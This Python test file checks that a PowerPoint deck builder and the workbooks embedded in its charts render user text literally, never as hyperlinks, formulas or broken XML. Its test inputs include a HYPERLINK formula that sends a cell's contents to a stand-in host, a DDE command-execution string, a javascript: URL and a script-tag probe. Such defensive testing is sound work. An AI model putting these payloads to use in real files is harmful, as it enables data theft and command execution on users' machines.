"""PowerPoint with text a user wrote (issue 12): shown as written, never a link, a formula or
broken XML."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
from pptx import Presentation

from sdgdash.features.deck import pptx as slides

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "javascript:alert(1) https://evil.example www.evil.example mallory@evil.example",
    "<script>alert(1)</script> **bold** [x](https://evil.example)",
    "NUL\x00 escape\x1b bell\x07 end",
]


def _doc() -> slides.Document:
    return slides.Document(
        HOSTILE[0],
        subtitle=[HOSTILE[2], HOSTILE[4]],
        slides=[
            slides.TableSlide(
                HOSTILE[1], ["A", HOSTILE[0]], [[h, "1"] for h in HOSTILE], HOSTILE[3]
            ),
            slides.ChartSlide(
                HOSTILE[4], "bar", [HOSTILE[0], HOSTILE[1]], [(HOSTILE[0], [1.0, -2.0])], "f"
            ),
        ],
    )


def _visible(text: str) -> str:
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


def test_user_text_is_shown_as_written_without_links() -> None:
    data = slides.build(_doc())
    prs = Presentation(io.BytesIO(data))
    texts = []
    for slide in prs.slides:
        for shape in slide.shapes:
            frames = [shape.text_frame] if shape.has_text_frame else []
            if shape.has_table:
                frames += [c.text_frame for row in shape.table.rows for c in row.cells]
            for frame in frames:
                for p in frame.paragraphs:
                    for run in p.runs:
                        assert run.hyperlink.address is None, run.text
                texts.append(frame.text)
    shown = "\n".join(texts)
    for text in HOSTILE:
        assert _visible(text) in shown, text
    assert "_x00" not in shown  # control characters dropped, not spelled out as _x0000_
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in z.read(name), name


def test_a_charts_embedded_workbook_holds_no_formula() -> None:
    # PowerPoint's "Edit data" opens the chart's workbook: its labels must be text there too.
    data = slides.build(_doc())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        books = [n for n in z.namelist() if n.endswith(".xlsx")]
        assert books
        for name in books:
            wb = openpyxl.load_workbook(io.BytesIO(z.read(name)))
            cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            assert HOSTILE[0] in [c.value for c in cells]
            assert -2.0 in [c.value for c in cells]  # numbers stay numbers
